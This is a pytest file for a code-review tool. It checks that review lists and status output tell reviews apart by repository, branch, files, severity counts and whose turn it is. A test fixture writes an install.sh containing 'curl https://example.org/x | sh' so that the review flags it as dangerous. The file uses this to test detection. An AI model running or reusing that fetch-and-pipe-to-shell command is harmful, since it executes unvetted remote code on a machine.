"""U-55: a list of reviews shows repository, branch, files, findings by severity, turn and age to tell them apart."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.use.judging import judge, wait_for
from tests.use.laptop import commit, foureyes, git, result_of
from tests.use.served import DOORS, Served, served

WHY = {"evidence": "x is rounded before it is summed, so cents are lost"}
FOUND = (("minor", "The name says nothing."), ("critical", "Cents are lost."), ("critical", "A negative sum grows."))
#: Whose turn it is where the programs found something in a local review.
MINE = "yours: fix each of them, or say why it is wrong"
PIPE = "#!/bin/sh\ncurl https://example.org/x | sh\n"


def repository(folder: Path, branch: str) -> Path:
    """A repository on this branch with two uncommitted files, one of them dangerous."""
    folder.mkdir(parents=True)
    git(folder, "init", "-q", "-b", branch)
    (folder / "kept.py").write_text("x = 1\n", encoding="utf-8")
    commit(folder, "one")
    (folder / "install.sh").write_text(f"{PIPE}# {branch}\n", encoding="utf-8")
    (folder / "plain.py").write_text("y = 1\n", encoding="utf-8")
    return folder


@pytest.mark.door("command", policy="solo")
def test_status_tells_the_reviews_of_two_repositories_apart(tmp_path: Path) -> None:
    """U-55: eleven lines said "Uncommitted changes on main" and nothing else."""
    shop, till = repository(tmp_path / "shop", "main"), repository(tmp_path / "till", "fix-rounding")
    for work in (shop, till):
        assert foureyes(work, "review", "--no-agents", "-q").returncode == 2
    told = " ".join(foureyes(shop, "status").stdout.split())
    for name in ("main of shop", "fix-rounding of till"):
        assert f"{name}; install.sh and 1 more; 1 critical; turn: {MINE}; round 1, " in told
    assert "2 private, on this machine only" in told
    assert "for a reviewer" not in told, "nobody but the person is waited for"
    newest = result_of(foureyes(shop, "status", "--json"))["newest"]
    assert isinstance(newest, list)
    assert [(one["title"], one["files"], one["by_severity"]) for one in newest] == [
        (f"Uncommitted changes on {name}", "install.sh and 1 more", {"critical": 1})
        for name in ("fix-rounding of till", "main of shop")
    ]
    assert all(one["turn"] and one["opened"] for one in newest)


@pytest.mark.door("http", "command", policy="solo")
def test_status_lists_what_is_private_beside_what_a_server_keeps(tmp_path: Path) -> None:
    """U-55: once a server had run in the data folder, no local review was listed any more."""
    work = repository(tmp_path / "shop", "main")
    with served(tmp_path) as up:
        home = {"HOME": up.server.environment["HOME"]}
        dev = up.account("dev", scopes=("read", "author"))
        ours = [{"path": "a.py", "text": "x = 1\n"}]
        shared = dev.call("open_review", kind="code", title="Round it", files=ours)["review"]
        private = result_of(foureyes(work, "review", "--no-agents", "--json", **home))["review"]
        while_up = foureyes(work, "status", **home)
    for ran in (while_up, foureyes(work, "status", **home)):
        told = " ".join(ran.stdout.split())
        assert (
            f"{private}: Uncommitted changes on main of shop; install.sh and 1 more; 1 critical; turn: {MINE};" in told
        )
        assert "; 1 private, on this machine only" in told
        assert told.index(f"{private}: ") < told.index(f"{shared}: Round it;"), "the newest comes first"
    found = result_of(foureyes(work, "status", "--json", **home))
    newest = found["newest"]
    assert isinstance(newest, list)
    assert [(one["review"], one["private"]) for one in newest] == [(private, True), (shared, False)]
    assert (found["open"], found["private"], newest[0]["turn"]) == (2, 1, MINE)


@pytest.mark.door("http", "command", policy="solo")
def test_a_review_that_is_shared_keeps_the_name_of_its_repository(tmp_path: Path) -> None:
    """U-55: what reaches the team's server says where it comes from."""
    with served(tmp_path) as up:
        dev = up.account("dev", scopes=("read", "author"))
        work = repository(tmp_path / "shop", "main")
        token = dev.headers["authorization"].partition(" ")[2]
        there = {"HOME": up.server.environment["HOME"], "FOUREYES_TOKEN": token}
        ran = foureyes(work, "review", "--no-agents", "--share", "--json", **there)
        assert ran.returncode == 2, ran.stderr
        listed = wait_for(lambda: [one for one in up.human.call("list_reviews")["reviews"] if one["findings"]])
        assert [(one["title"], one["files"], one["findings"]) for one in listed] == [
            ("Uncommitted changes on main of shop", "install.sh and 1 more", {"critical": 1})
        ]


@pytest.fixture(scope="module")
def up(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A server with two reviews of the same title, of which one has findings."""
    with served(tmp_path_factory.mktemp("lists")) as up:
        dev, mara = up.account("dev", scopes=("read", "author")), up.account("mara", scopes=("read", "review"))
        for branch, file in (("main", "a.py"), ("rounding", "b.py")):
            body = {"kind": "code", "title": "Round it", "origin": {"ref": branch}}
            opened = dev.call("open_review", files=[{"path": file, "text": f"x = 1  # {branch}\n"}], **body)
            assert opened.is_ok, opened.text
            if branch == "main":
                found = [
                    {"severity": severity, "text": text, "place": {"path": file, "start": 1}, **WHY}
                    for severity, text in FOUND
                ]
                said = judge(mara, opened["review"], "concerns", findings=found)
                assert said.is_ok, said.text
        wait_for(lambda: dev.call("inbox")["waiting"])  # until the programs have reported, too
        yield up


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.door("http", "mcp", policy="solo")
def test_a_list_says_where_each_comes_from_what_is_open_and_whose_turn_it_is(up: Served, door: str) -> None:
    """U-55: two reviews with the same title, as their author sees them."""
    newest, oldest = up.callers["dev"].at(door).call("list_reviews")["reviews"]
    assert [(one["origin"], one["files"]) for one in (newest, oldest)] == [("rounding", "b.py"), ("main", "a.py")]
    assert (newest["findings"], oldest["findings"]) == ({}, {"critical": 2, "minor": 1})
    assert oldest["turn"].startswith("the author: an answer to solo.")
    assert newest["turn"]
    assert "the author" not in newest["turn"]
    (asked,) = up.callers["dev"].at(door).call("inbox")["waiting"]
    assert (asked["kind"], asked["findings"]) == ("revision", {"critical": 2, "minor": 1})


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.door("http", "mcp", policy="resolve")
def test_a_list_tells_a_blind_reviewer_nothing_of_what_others_found(tmp_path: Path, door: str) -> None:
    """U-55: the counts are those of the findings that the viewer may know of."""
    with served(tmp_path, "resolve") as up:
        dev = up.account("dev", scopes=("read", "author"))
        first, second = up.account("ann"), up.account("ben")
        body = {"content_type": "story", "content": "Once there was a sea."}
        review = dev.call("submit_content", **body)["content_id"]
        path = first.call("read_work", review=review)["files"][0]["path"]
        found = [{"severity": "critical", "text": "There was none.", "place": {"path": path, "start": 1}}]
        assert (said := judge(first, review, None, findings=found)).is_ok, said.text
        (blind,) = second.at(door).call("list_reviews")["reviews"]
        assert blind["findings"] == {}
        (whole,) = up.human.call("list_reviews")["reviews"]
        assert whole["findings"] == {"critical": 1}


@pytest.mark.door("page", policy="solo")
def test_the_page_of_a_human_says_the_same(up: Served) -> None:
    """U-55: findings by severity, the branch, the file and whose turn it is, at each of the two."""
    page = up.page("/")
    assert "2 critical, 1 minor" in page
    for branch, file in (("main", "a.py"), ("rounding", "b.py")):
        assert f"code by dev, {file}, from {branch}, version 1" in page
    assert "Turn: the author: an answer to solo." in page
